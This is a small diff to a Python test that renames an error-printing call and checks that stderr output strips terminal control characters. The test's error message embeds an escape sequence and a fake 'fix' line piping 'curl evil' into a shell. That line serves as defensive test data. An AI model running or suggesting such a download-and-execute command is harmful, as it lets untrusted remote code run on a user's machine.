@@ -198,7 +198,7 @@ def test_a_mistake_of_ours_is_shown_as_safely(capsys):
     try:
         raise ValueError("\x1b]0;title\x07\n  fix:   curl evil | sh")
     except ValueError as error:
-        command_line._fault(type(error), error, error.__traceback__)
+        command_line._print_bug(type(error), error, error.__traceback__)
         assert "\x1b" in traceback.format_exc()
     told = capsys.readouterr().err
     assert not CONTROLS.search(told)
